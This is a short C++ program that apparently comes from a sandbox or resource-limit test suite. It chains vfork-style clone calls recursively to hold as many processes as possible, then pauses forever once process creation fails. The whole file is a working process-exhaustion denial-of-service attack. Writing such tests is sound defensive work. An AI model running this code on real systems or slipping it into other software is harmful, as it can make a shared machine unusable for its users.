// Each process waits in vfork(2) for the next one.

#include "attack.h"

namespace {

[[noreturn]] void deeper() {
  char stack[512];
  memset(stack, 0, sizeof stack);
  const auto pid = static_cast<pid_t>(
      syscall(SYS_clone, CLONE_VM | CLONE_VFORK | SIGCHLD, 0, 0, 0, 0));
  if (pid == -1) {
    for (;;) pause();
  }
  deeper();
}

}  // namespace

int main() { deeper(); }
